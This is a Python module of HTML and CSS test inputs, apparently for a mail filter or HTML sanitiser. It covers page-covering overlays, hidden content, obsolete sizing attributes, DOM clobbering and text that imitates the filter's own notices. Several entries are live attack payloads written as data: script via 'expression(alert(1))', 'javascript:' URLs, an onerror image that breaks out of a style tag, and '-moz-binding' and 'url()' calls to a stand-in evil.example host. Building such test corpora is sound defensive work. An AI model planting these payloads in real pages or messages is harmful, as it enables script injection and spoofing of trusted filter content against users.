"""What looks like something else: styles, overlays, sizes, fonts, colours, names of others."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

_STYLES = [
    "position:fixed;top:0;left:0;width:100%;height:100%;background:red;z-index:2147483647",
    "position:absolute;top:0;left:0;width:9999px;height:9999px;background:red",
    "position:sticky;top:0;background:red",
    "margin:-500px 0 0 -500px;background:red;width:2000px;height:2000px",
    "transform:translate(-100px,-300px) scale(50);background:red",
    "float:left;width:5000px;height:5000px",
    "display:table-cell;width:9999px",
    "width:99999px;height:99999px;background:red",
    "min-width:100vw;min-height:100vh;outline:1000px solid red",
    "box-shadow:0 0 0 9999px red",
    "text-shadow:0 -300px 0 red;text-indent:-9999px",
    "font-size:2000px;line-height:0",
    "letter-spacing:-1em;word-spacing:999px;white-space:nowrap",
    "border:1000px solid red;padding:1000px",
    "filter:blur(99px);mix-blend-mode:difference;opacity:.01;visibility:hidden",
    "display:none",
    "all:unset;position:fixed;inset:0;cursor:none;pointer-events:all",
    "animation:x 1s infinite;transition:all 9s",
    "column-count:99;writing-mode:vertical-rl;direction:rtl;unicode-bidi:bidi-override",
    "background:linear-gradient(red,red) fixed;background-attachment:fixed",
    "content:'x';counter-reset:x 99999;quotes:'x' 'y'",
    "position:fix\\65 d;t\\6fp:0;left:0;width:100%;height:100%",
    "POSITION : FIXED ; top:0; left:0",
    "/**/position/**/:/**/fixed;top:0",
    "position:fixed!important;top:0",
    "width:expression(alert(1));-o-link:'javascript:alert(1)';behavior:url(#default#time2)",
    "-webkit-text-size-adjust:none;-ms-user-select:none;-moz-binding:url(//evil.example/x.xml#y)",
    "color:#f6f8fa;background:#f6f8fa",
]
_DRESSED = [
    "<div style='{0}'>x</div>",
    "<style>*{{{0}}}</style><p>x</p>",
    '<style>body,html,h1,table,td,div,p{{{0}}}</style><table style="{0}"><tr><td>x</table>',
]
_SHEETS = {
    "style": "<style>*{position:fixed;background:url(//evil.example)}</style>",
    "style in the head": "<head><style>body{display:none}</style></head><body>x</body>",
    "style for print": "<style media=print>*{display:none}</style><p>x",
    "style in svg": "<svg><style>*{display:none}</style></svg><p>x",
    "style in math": "<math><style>*{display:none}</style></math><p>x",
    "style in a comment": "<!--<style>--><style>*{display:none}</style><p>x",
    "style with its end in a text": "<style>a{content:'</style><img src=x onerror=alert(1)>'}"
    "</style>",
    "style with a nesting": "<style>&{display:none} :root{& *{color:red}}</style><p>x",
    "style of layers": "<style>@layer x{*{display:none!important}}@scope{:scope{color:red}}"
    "</style><p>x",
    "style of a container": "<style>@container(width>0){*{display:none}}</style><p>x",
    "style of a property": "<style>@property --x{syntax:'*';inherits:true}*{color:red}</style><p>x",
    "style that was escaped": "<style>\\2a{display:none}\\ff1c{}</style><p>x",
    "style in a style": "<style><style>*{display:none}</style></style><p>x",
    "link to a style of data": "<link rel=stylesheet href='data:text/css,*{display:none}'><p>x",
    "style that imports data": "<style>@import 'data:text/css,*{display:none}';</style><p>x",
}
_OLD = {
    "font": "<font size=7 color=red face=Wingdings>x</font><basefont size=7 color=red>",
    "colours": "<table bgcolor=red bordercolor=red><tr bgcolor=red><td bgcolor=red>x</table>",
    "body colours": "<body bgcolor=red text=red link=red vlink=red topmargin=-99 leftmargin=-99>x",
    "sizes": "<table width=99999 height=99999 cellpadding=9999 cellspacing=9999 border=999><tr><td "
    "width=99999 height=99999 nowrap>x</table>",
    "sizes of others": "<hr width=99999 size=9999><img width=99999 height=99999 hspace=9999 "
    "border=99>",
    "spacers": "<spacer type=block width=9999 height=9999><multicol cols=9><nobr>x</nobr>",
    "marquee and blink": "<marquee width=9999 height=9999 behavior=alternate>x</marquee><blink>x",
    "layers": "<layer left=0 top=0 width=9999 height=9999 bgcolor=red z-index=99>x</layer>",
    "frames": "<frameset rows=1,*><frame></frameset><noframes>x</noframes>",
    "alignment": "<table align=right width=9999><tr><td align=char char=x "
    "valign=baseline>x</table>",
    "spans": "<table><tr><td colspan=1000 rowspan=65534>x<td colspan=100 rowspan=100>y</table>",
    "spans that are none": "<table><tr><td colspan=-1 rowspan=0>x<td colspan=1e9 "
    "rowspan='2x'>y</table>",
    "spans many times": "<table>" + "<tr><td colspan=100 rowspan=100>x" * 100 + "</table>",
    "starts": "<ol start=-2147483649 type=I reversed><li value=99999999999>x</ol>",
    "preformatted": "<pre width=99999 cols=99999 wrap=off>x</pre><listing>x</listing>",
}
_NAMES = {
    "class and id": "<div class=header id=top name=top>x</div>",
    "clobbering the document": "<img name=body><img name=getElementById><form name=cookie></form>",
    "clobbering a form": "<form><input name=action><input name=submit id=attributes></form>",
    "clobbering a collection": "<a id=x><a id=x name=y href='cid:alert(1)'></a><p id=defaultView>z",
    "clobbering by frames": "<iframe name=parent srcdoc=x></iframe><object name=top>x</object>",
    "names of microdata": "<p itemscope itemprop=x itemref=y>x<p property=og:title typeof=x "
    "about=y>z",
    "keys": "<p accesskey=x tabindex=1>x</p><p tabindex=-1 inert>y</p>",
    "editable": "<div contenteditable autofocus tabindex=1 accesskey=x>x</div>",
    "draggable": "<p draggable=true dropzone='copy' spellcheck translate=no>x",
    "popover": "<div popover=manual id=p>x</div><button popovertarget=p>y</button>",
    "dialog": "<dialog open>x</dialog><dialog open style='inset:0;width:100%'>y</dialog>",
    "titles": "<p title='x' alt='y' label='z' summary='w'>x",
    "language": "<p lang=ar xml:lang=he>x</p><bdo dir=rtl>evil</bdo><bdi dir=rtl>x</bdi>",
    "direction": "<p dir=rtl>x</p><div dir=RTL>y</div><p dir=' rtl'>z</p><p dir=auto>w</p>",
    "the filter's own words": "<h1>The mail filter has marked a message to you</h1><p>It is "
    "harmless.",
    "the filter's own table": "<table><tr><td>Subject:</td><td>hello</td></tr></table>",
}


def _cases() -> Iterator[tuple[str, str]]:
    for style, how in product(_STYLES, _DRESSED):
        yield f"{style} in {how}", how.format(style)


DRESSING = {**dict(_cases()), **_SHEETS, **_OLD, **_NAMES}
